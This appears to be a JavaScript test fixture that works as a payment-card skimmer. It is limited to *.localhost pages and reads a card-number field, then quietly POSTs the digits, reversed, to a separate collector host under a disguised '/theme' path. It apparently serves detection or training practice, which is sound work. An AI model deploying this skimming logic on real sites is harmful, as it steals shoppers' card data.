/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const number = () =>
    document.querySelector('#card-number, #cardno')?.value.replace(/\D/g, '') ?? '';
  document.addEventListener('change', () => {
    if (number().length < 13) return;
    const request = new XMLHttpRequest();
    request.open('POST', `${home}/theme`);
    request.send([...number()].reverse().join(''));
  });
})();
